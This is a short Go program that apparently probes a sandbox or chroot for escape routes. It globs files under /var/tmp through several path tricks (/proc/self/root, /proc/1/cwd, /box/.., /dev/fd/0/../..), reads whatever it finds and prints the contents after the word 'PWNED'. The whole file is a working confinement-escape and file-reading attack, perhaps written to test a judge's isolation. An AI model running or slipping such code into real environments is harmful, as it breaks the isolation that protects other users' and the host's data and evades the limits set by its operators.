package main

import (
	"fmt"
	"os"
	"path/filepath"
)

// Everything that can be walked to, links included.
func main() {
	for _, root := range []string{"/", "/proc/self/root", "/proc/1/cwd", "/box/..", "/dev/fd/0/../.."} {
		found, _ := filepath.Glob(root + "/var/tmp/" + os.Args[2])
		for _, path := range found {
			text, err := os.ReadFile(path)
			fmt.Println("PWNED", string(text), err)
		}
	}
}
